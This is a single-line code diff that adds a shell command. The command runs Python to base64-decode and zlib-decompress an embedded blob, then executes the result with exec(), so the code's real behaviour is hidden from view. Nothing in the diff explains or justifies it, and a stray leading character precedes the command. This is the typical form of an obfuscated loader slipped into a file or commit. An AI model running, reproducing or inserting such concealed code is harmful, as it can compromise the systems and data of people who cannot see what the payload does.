@@ -1,0 +1,1 @@
+0python3 -c "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJwdjdtugkAURX/lvNnGMCOMRdCnBrFJRVIttdo3LrXgOJxxLgb8+qr7bWftld0IicoA6hlqonttfsXToKyAGiFnUFp1AuegPxOojZFTSr0RIyPiuoyElIODQPhtVgusYNg9CqHkAbRRubFiaMq7JxFPRFt5f+uEIiWKKbsFHAvjyTz4XuP7sq/qjHPPL84/0XYxWeRpfd2Y9M19se6u2awD1h72Z/zrk+PHqt3Hy1wdX5voGjLc+jrO4pDzhBW8uGQ7v119eeMonQfgSOgGz/9OD0qC')))"
